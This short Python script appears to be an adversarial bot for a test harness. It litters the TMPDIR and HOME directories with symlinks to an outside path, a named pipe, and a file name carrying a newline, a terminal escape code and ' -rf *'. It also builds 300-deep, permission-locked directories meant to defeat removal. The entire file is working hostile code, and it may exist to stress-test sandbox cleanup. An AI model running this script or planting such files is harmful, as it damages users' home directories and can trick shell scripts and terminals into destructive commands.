# Leaves what is hard to remove, and ways to the folder ARGUMENT, not its own: plays on.
from bot import *


def litter(folder):
    os.symlink(ARGUMENT, folder + "/way")
    os.mkfifo(folder + "/fifo")
    open(folder + "/\n\x1b[2J\udcff -rf *", "w").close()
    for _ in range(300):  # deeper than a path may be long
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        os.symlink(ARGUMENT, "way")
        os.chmod(".", 0)


for folder in {os.environ["TMPDIR"], os.environ["HOME"]}:
    os.chdir(folder)
    litter(folder)
run()
